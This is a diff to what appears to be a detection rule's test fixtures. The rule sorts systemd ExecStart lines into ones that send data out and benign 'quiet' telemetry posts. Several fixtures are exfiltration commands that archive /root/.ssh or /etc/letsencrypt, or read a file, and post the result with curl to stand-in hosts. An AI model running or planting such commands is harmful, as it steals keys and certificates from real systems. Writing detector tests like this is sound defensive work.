@@ -48,8 +48,15 @@ export const sendsDataOut: ActivationRule = {
         "ExecStart=/bin/sh -c 'tar czf /srv/x.tgz /root/.ssh; curl -F f=@/srv/x.tgz https://api.example.test/'",
       ),
       timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | curl -F f=@- http://192.0.2.7/'"),
+      timed("ExecStart=/bin/sh -c 'k=$$(cat /srv/x); curl -d \"k=$$k\" http://192.0.2.7/'"),
     ],
     quiet: [
+      timed(
+        "ExecStart=/bin/sh -c 'ip=$$(ip -o addr show | head -n 1 | cut -d/ -f1); curl -d \"ip=$$ip\" https://d.example.test/'",
+      ),
+      timed(
+        "ExecStart=/bin/sh -c 'curl -d \"t=$$(cat /sys/class/thermal/thermal_zone0/temp)\" http://192.0.2.7/'",
+      ),
       timed("ExecStart=/bin/sh -c 'ps aux | curl -fsS --data-binary @- https://influx.example.test/write'"),
       timed(
         "ExecStart=/bin/sh -c 'id; uname -a; ps aux; df -P | curl -fsS --data-binary @- https://influx.example.test/write'",
